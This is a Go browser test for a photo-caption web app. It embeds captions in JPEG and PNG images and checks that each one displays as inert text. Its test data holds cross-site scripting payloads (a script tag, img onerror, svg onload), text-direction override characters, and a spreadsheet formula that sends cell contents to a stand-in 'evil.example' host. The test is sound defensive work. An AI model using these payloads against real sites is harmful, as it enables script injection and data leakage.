package browser_test

import (
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/png"
	"slices"
	"strings"
	"testing"

	"cutline/internal/photo"
	"cutline/internal/writeback"
)

// captioned is a picture with the caption: a demo picture, or a PNG where a
// JPEG has no room for it.
func captioned(t *testing.T, caption string) []byte {
	t.Helper()
	var b bytes.Buffer
	if len(caption) > 30_000 {
		if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 60, 40))); err != nil {
			t.Fatal(err)
		}
		packet, err := writeback.Sidecar(nil, writeback.Texts{photo.Caption: caption})
		if err != nil {
			t.Fatal(err)
		}
		const end = 12 // the last chunk, which is empty
		text := append([]byte("iTXtXML:com.adobe.xmp\x00\x00\x00\x00\x00"), packet...)
		chunk := binary.BigEndian.AppendUint32(nil, uint32(len(text)-4))
		chunk = binary.BigEndian.AppendUint32(append(chunk, text...), crc32.ChecksumIEEE(text))
		return slices.Insert(b.Bytes(), b.Len()-end, chunk...)
	}
	if err := writeback.JPEG(&b, bytes.NewReader(demoPictures(t)["harbour-own.jpg"]), writeback.Texts{photo.Caption: caption}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// Whatever stands in a caption is shown as text, and nothing else on the page
// is moved, hidden or run by it.
func TestHostileCaptions(t *testing.T) {
	s := start(t)
	for name, c := range map[string]struct{ caption, shows string }{
		"script":    {`<script>window.owned=1</script><img src=x onerror="window.owned=1"> "><svg onload=window.owned=1> (AP Photo/Ann Bee)`, "<script>window.owned=1</script>"},
		"overrides": {"Boats leave \u202Eriah na\u202C, Oban \u2066x\u2069. REUTERS/Joan Baird", "⟦RLO⟧riah na⟦PDF⟧"},
		"long":      {strings.Repeat("A very long caption. ", 5000) + "REUTERS/Joan Baird", "A very long caption."},
		"arabic":    {"قوارب تغادر الميناء في أوبان. رويترز/جوان بيرد", "قوارب تغادر الميناء"},
		"formula":   {`=HYPERLINK("http://evil.example/?"&A1,"click") Boats leave a harbour in Oban. REUTERS/Joan Baird`, `=HYPERLINK(`},
		"word":      {strings.Repeat("Donaudampfschiff", 500), "Donaudampfschiff"},
	} {
		key := name + " <b>\"'\u202E&.jpg"
		s.upload(t, key, captioned(t, c.caption))
		p := tab(t)
		for _, width := range []int64{1440, 390} {
			p.look("light", width, 900)
			for _, address := range []string{"/", "/reports/photos/" + escapePath(key)} {
				p.visit(s.url + address)
				p.wait("document.body.innerText.includes(" + quote(c.shows) + ") || location.pathname == '/'")
				if eval[bool](p, "!!window.owned || !!document.querySelector('main b b, main svg[onload], main script')") {
					t.Errorf("%s: the caption is markup on %s", name, address)
				}
				if wide := eval[int64](p, "document.documentElement.scrollWidth"); wide > width {
					t.Errorf("%s: %s is %d pixels wide in a window of %d", name, address, wide, width)
				}
				if eval[bool](p, `/[\u202A-\u202E\u2066-\u2069]/.test(document.body.innerText)`) {
					t.Errorf("%s: %s has characters that turn the text around", name, address)
				}
			}
		}
		if name == "arabic" {
			if dir := eval[string](p, "getComputedStyle(document.querySelector('article .caption')).direction"); dir != "rtl" {
				t.Errorf("Arabic runs %s", dir)
			}
		}
	}
}
